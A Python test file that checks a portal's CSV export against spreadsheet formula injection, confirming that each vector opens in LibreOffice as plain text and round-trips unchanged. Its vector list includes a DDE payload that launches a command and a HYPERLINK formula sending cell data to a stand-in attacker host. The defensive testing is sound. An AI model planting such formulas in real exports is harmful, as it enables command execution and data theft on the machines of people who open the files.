"""Whatever somebody is called, a file of ours opens as text and comes back equal (A72)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from portal.web.ground.spreadsheets import csv_lines, plain_cell
from tests.spreadsheets import opened

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1"',
    ";=1",
    "Ada;=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Ada")',
    "  =1",
    "＝1+1",
    "\u200b=1",
    "'=1",
    "{=1}",
)
OTHERWISE = (
    "12345678901234567890",
    "007",
    "2026-11-22",
    "1/2/2026",
    "Mar 3",
    "5 pm",
    "12:30",
    "1e5",
    "1,234",
    "50%",
    "$5",
    "(5)",
    "½",
    "TRUE",
    "#N/A",
)
NAMES = (
    "Ada Byrne",
    "Zoë O’Neill",
    "李小龍",
    "'Olu",
    "''",
    "May",
    "PS 118",
    " Ada ",
    "a\tb",
    "a\nb",
)
VECTORS = (*FORMULAS, *OTHERWISE, *NAMES)


def test_a72_every_vector_opens_in_libreoffice_as_text_and_comes_back_equal(
    tmp_path: Path,
) -> None:
    file = tmp_path / "names.csv"
    file.write_text("".join(csv_lines((each, "Ada") for each in VECTORS)), "utf-8", newline="")

    cells = [row[0] for row in opened(file, tmp_path)]

    assert [cell for cell in cells if not cell.is_text] == []
    # Its cells know one kind of line break; our names have none at all.
    assert [plain_cell(cell.text) for cell in cells] == [
        each.replace("\r", "\n") for each in VECTORS
    ]


def test_a72_every_vector_comes_back_equal_to_a_program() -> None:
    text = "".join(csv_lines([each] for each in VECTORS)).removeprefix("\ufeff")

    rows = csv.reader(io.StringIO(text, newline=""))

    assert [plain_cell(row[0]) for row in rows] == list(VECTORS)
